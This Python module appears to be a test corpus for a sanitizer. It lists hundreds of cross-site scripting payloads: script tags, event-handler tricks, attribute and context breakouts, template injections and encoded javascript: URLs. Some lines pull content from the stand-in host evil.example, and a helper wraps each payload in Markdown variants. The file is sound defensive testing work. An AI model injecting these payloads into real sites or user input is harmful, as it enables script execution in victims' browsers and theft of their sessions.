"""Text that would run as script wherever a page forgot to escape it. RUN stands for the call that the trap notices.

Grouped by the mistake that each one waits for. Written down from what is generally known of browsers' parsers.
"""

ELEMENTS = """
<script>RUN</script>
<SCRIPT>RUN</SCRIPT>
<scr<script>ipt>RUN</scr</script>ipt>
<script/x>RUN</script >
<script src="data:text/javascript,RUN"></script>
<script type=module>RUN</script>
<script async src=data:,RUN></script>
<<script>RUN//<</script>
<script>RUN<!-- --></script>
<svg><script>RUN</script></svg>
<svg><script href="data:,RUN" /></svg>
<math><annotation-xml encoding="text/html"><script>RUN</script></annotation-xml></math>
<iframe srcdoc="<script>parent.RUN</script>"></iframe>
<iframe src="javascript:parent.RUN"></iframe>
<iframe srcdoc="&lt;img src=x onerror=parent.RUN&gt;"></iframe>
<object data="javascript:RUN"></object>
<object data="data:text/html,<script>parent.RUN</script>"></object>
<embed src="javascript:RUN">
<embed src="data:text/html,<script>RUN</script>">
<meta http-equiv=refresh content="0;url=javascript:RUN">
<base href="javascript:RUN//">
<link rel=stylesheet href="data:text/css,*{background:red}">
<link rel=import href="data:text/html,<script>RUN</script>">
<style>@import "https://evil.example/x.css";</style>
<style>*{background:url(https://evil.example/x)}</style>
<template><script>RUN</script></template><img src=x onerror=RUN>
<noscript><p title="</noscript><img src=x onerror=RUN>">
<form action="javascript:RUN"><button>go</button></form>
<form><button formaction="javascript:RUN">go</button></form>
<isindex action="javascript:RUN" type=submit>
<portal src="https://evil.example/"></portal>
<frameset onload=RUN><frame src="about:blank"></frameset>
<dialog open onclose=RUN><form method=dialog><button>x</button></form></dialog>
"""

HANDLERS = """
<img src=x onerror=RUN>
<img src=x onerror="RUN">
<img src=x onerror='RUN'>
<img src=x onerror=`RUN`>
<img/src=x/onerror=RUN>
<img src=x:x onerror	=	RUN>
<img src=x OnErRoR=RUN>
<img src="x"onerror="RUN">
<img src=x onerror=&#114;an(1)>
<img src=x onerror=&#x72;an(1)>
<img src=x onerror="&lpar;&rpar;;RUN">
<img src=x onerror=window["\\x72an"](1)>
<img src=x onerror=eval("\\u0072an(1)")>
<img src=x onerror="setTimeout('RUN')">
<img src=x onerror="Function('RUN')()">
<image src=x onerror=RUN>
<svg onload=RUN>
<svg/onload=RUN>
<svg onload=RUN//
<svg><g onload=RUN></g></svg>
<svg><animate onbegin=RUN attributeName=x dur=1s></svg>
<svg><set onbegin=RUN attributeName=x></svg>
<svg><image href=x onerror=RUN></svg>
<svg><a xlink:href="javascript:RUN"><text y=20>x</text></a></svg>
<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg' onload='RUN'/>#x"></svg>
<svg><foreignObject><img src=x onerror=RUN></foreignObject></svg>
<svg><desc><img src=x onerror=RUN></desc></svg>
<math><mtext><img src=x onerror=RUN></mtext></math>
<math href="javascript:RUN">x</math>
<body onload=RUN>
<body onpageshow=RUN>
<video><source onerror=RUN></video>
<video src=x onerror=RUN></video>
<audio src=x onerror=RUN>
<video poster=x onloadstart=RUN src=x></video>
<input autofocus onfocus=RUN>
<select autofocus onfocus=RUN></select>
<textarea autofocus onfocus=RUN></textarea>
<button autofocus onfocus=RUN>x</button>
<a href=# autofocus onfocus=RUN tabindex=1>x</a>
<div contenteditable autofocus onfocus=RUN>x</div>
<details open ontoggle=RUN><summary>x</summary></details>
<div style="animation:x 1s" onanimationstart=RUN><style>@keyframes x{}</style></div>
<marquee onstart=RUN>x</marquee>
<input type=image src=x onerror=RUN>
<object onerror=RUN data=x></object>
<style onload=RUN></style>
<link rel=stylesheet href=x onerror=RUN>
<script onerror=RUN src=x></script>
<track onerror=RUN src=x>
<p onmouseover=RUN>x</p>
<p onpointerenter=RUN>x</p>
<p onclick=RUN>x</p>
<p oncontentvisibilityautostatechange=RUN style="content-visibility:auto">x</p>
<div popover id=pop onbeforetoggle=RUN>x</div><button popovertarget=pop>x</button>
<x onfocus=RUN tabindex=0 id=x autofocus>x</x>
"""

BREAKING_OUT = """
"><img src=x onerror=RUN>
'><img src=x onerror=RUN>
`><img src=x onerror=RUN>
"><script>RUN</script>
'><svg onload=RUN>
" onfocus=RUN autofocus x="
' onfocus=RUN autofocus x='
" autofocus onfocus="RUN
x onmouseover=RUN
x" style="animation:x" onanimationend="RUN
</title><script>RUN</script>
</textarea><script>RUN</script>
</style><script>RUN</script>
</script><script>RUN</script>
</noscript><img src=x onerror=RUN>
</template><img src=x onerror=RUN>
</option></select><img src=x onerror=RUN>
</h1></main><img src=x onerror=RUN>
--><img src=x onerror=RUN>
--!><img src=x onerror=RUN>
<!--><img src=x onerror=RUN>-->
<!--own:1--><img src=x onerror=RUN>
]]><img src=x onerror=RUN>
<![CDATA[<img src=x onerror=RUN>]]>
<?xml version="1.0"?><img src=x onerror=RUN>
<!DOCTYPE x [<!ENTITY y "<img src=x onerror=RUN>">]>&y;
&lt;img src=x onerror=RUN&gt;
&amp;lt;img src=x onerror=RUN&amp;gt;
%3Cimg src=x onerror=RUN%3E
\\x3cimg src=x onerror=RUN\\x3e
\\u003cimg src=x onerror=RUN\\u003e
＜img src=x onerror=RUN＞
{{ RUN }}
{{constructor.constructor('RUN')()}}
{% if 1 %}<img src=x onerror=RUN>{% endif %}
${RUN}
<%= RUN %>
';RUN;//
";RUN;//
\\";RUN;//
javascript:RUN
<img src="x` `<script>RUN</script>"` `>
<a title="<img src=x onerror=RUN>" href="#">x</a>
<p title='"><img src=x onerror=RUN>'>
<img alt="<x" title="/><img src=x onerror=RUN>">
<div hx-get="https://evil.example/" hx-trigger="load">x</div>
<div hx-on:load="RUN" data-hx-on--load="RUN">x</div>
<div data-module="govuk-button" onclick=RUN>x</div>
"""

ADDRESSES = """
javascript:RUN
JaVaScRiPt:RUN
 javascript:RUN
java	script:RUN
java&#10;script:RUN
java&Tab;script:RUN
&#106;avascript:RUN
&#x6A;avascript:RUN
javascript&colon;RUN
javascript&#58;RUN
%6Aavascript:RUN
javascript://%0aRUN
javascript:/*-->*/RUN
javascript:void(RUN)
vbscript:RUN
data:text/html,<script>RUN</script>
data:text/html;base64,PHNjcmlwdD5vcGVuZXIucmFuKDEpPC9zY3JpcHQ+
data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="RUN"/>
blob:https://evil.example/x
view-source:javascript:RUN
feed:javascript:RUN
https://evil.example/" onmouseover="RUN
https://evil.example/' onmouseover='RUN
https://evil.example/"><img src=x onerror=RUN>
https://evil.example/<img/src=x/onerror=RUN>
//evil.example/%22onmouseover=RUN
http://user:"><img src=x onerror=RUN>@evil.example/
mailto:"><img src=x onerror=RUN>@evil.example
#"><img src=x onerror=RUN>
"""


def _lines(block: str) -> list[str]:
    return [vector.replace("RUN", "ran(1)") for vector in block.strip("\n").split("\n")]


MARKUP = ["<script\n>ran(1)</script\n>", *_lines(ELEMENTS), *_lines(HANDLERS), *_lines(BREAKING_OUT)]
LINKS = _lines(ADDRESSES)
VECTORS = [*MARKUP, *LINKS]


def as_markdown(vector: str, n: int) -> list[str]:
    """Paragraphs in which a Markdown reader might let a vector through."""
    line = " ".join(vector.split("\n"))
    if vector in MARKUP:
        return [line, f"Words **{line}** and `{line}`", f"- {line}", f"> {line}", f"[{line}](https://example.org/{n})"]
    return [
        f"[words]({line})",
        f"[words](<{line}>)",
        f'[words](https://example.org/{n} "{line}")',
        f"![words]({line})",
        f"<{line.strip()}>",
        f"[words][v{n}]\n\n[v{n}]: {line}",
        f"[words](https://example.org/{n}?{line.replace(' ', '%20')})",
    ]
